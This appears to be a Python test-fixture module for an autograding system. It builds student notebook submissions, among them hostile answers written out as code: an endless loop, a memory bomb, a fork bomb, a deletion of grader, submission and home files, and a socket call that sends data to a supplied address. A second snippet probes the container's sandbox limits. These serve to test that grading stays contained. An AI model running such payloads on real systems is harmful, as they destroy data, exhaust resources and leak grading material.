"""Students' files for the example assignment that generation puts beside an assignments course."""

from __future__ import annotations

import copy
import json
from pathlib import Path

EXAMPLE = "01-example"
# What only the example's master holds: its solutions and its hidden tests.
SOLUTIONS = ("return x + x", "len(sentence.split())")
HIDDEN_TESTS = ("double(-3.5)", 'len(sentence.split(" "))')
# The two answer cells of the students' notebook start so.
ANSWER_CELLS = ("def double(x):", "sentence = ")
SENTENCE = 'sentence = "the same environment for everyone"\n'

CORRECT = ("def double(x):\n    return x * 2", "words = 5")
# Passes the public test of question 1 (double(2) == 4), not its hidden one.
PARTIAL = ("def double(x):\n    return abs(x * 2)", "words = 5")

# Holds only where make grade's container is as INSTRUCTORS.md says: then the answer to question 2 is right.
LIMITS_SPY = '''import os
def first(*paths):
    for path in paths:
        try:
            return open(path).read().split()[0]
        except OSError:
            pass
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
held = [
    os.getuid() != 0,
    int(status["CapEff"], 16) == 0,
    first("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes") == str(1 << 30),
    first("/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/pids/pids.max") == "256",
    first("/sys/fs/cgroup/cpu.max", "/sys/fs/cgroup/cpu/cpu.cfs_quota_us") == "100000",
    sorted(os.listdir("/sys/class/net")) == ["lo"],
    not any(os.access(os.path.join("/submission", name), os.W_OK) for name in os.listdir("/submission")),
]
words = 5 if all(held) else 0
'''


def hostile(address: tuple[str, int]) -> dict[str, tuple[str, str]]:
    """Answers that attack the grading, each in a notebook of its own; address: where the network one calls."""
    return {
        "endless-loop": ("def double(x):\n    return x * 2\nwhile True:\n    pass", "words = 5"),
        "memory-bomb": ("def double(x):\n    return x * 2\nhog = []\nwhile True:\n"
                        "    hog.append(bytearray(50_000_000))", "words = 5"),
        "fork-bomb": ("import os\ndef double(x):\n    return x * 2\nwhile True:\n    try:\n        os.fork()\n"
                      "    except OSError:\n        pass", "words = 5"),
        "deletes-files": ("import glob, os, shutil\ndef double(x):\n    return x * 2\n"
                          "for path in glob.glob('/autograder/*') + glob.glob('/submission/*'):\n"
                          "    try:\n        os.remove(path)\n    except OSError:\n        pass\n"
                          "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)", "words = 5"),
        "calls-out": ("import socket\ndef double(x):\n    return x * 2\ntry:\n"
                      f"    socket.create_connection({address!r}, timeout=5).sendall(b'the hidden tests')\n"
                      "except OSError:\n    pass", "words = 5"),
    }


def answered(notebook: dict, double: str, words: str) -> dict:
    """The students' notebook with these answers in its two answer cells, as a student saves it."""
    filled = copy.deepcopy(notebook)
    for cell in filled["cells"]:
        source = "".join(cell["source"])
        if source.startswith(ANSWER_CELLS[0]):
            cell["source"] = double
        elif source.startswith(ANSWER_CELLS[1]):
            cell["source"] = SENTENCE + words
    return filled


def write_notebook(path: Path, notebook: dict) -> Path:
    path.write_text(json.dumps(notebook), encoding="utf-8")
    return path


def class_of(student_notebook: dict, folder: Path, size: int) -> Path:
    """A class's submissions: right, partly right and blank in turn."""
    folder.mkdir(parents=True, exist_ok=True)
    kinds = [("right", CORRECT), ("partial", PARTIAL), ("blank", None)]
    for number in range(size):
        kind, answers = kinds[number % len(kinds)]
        notebook = answered(student_notebook, *answers) if answers else student_notebook
        write_notebook(folder / f"student-{number:03d}-{kind}.ipynb", notebook)
    return folder
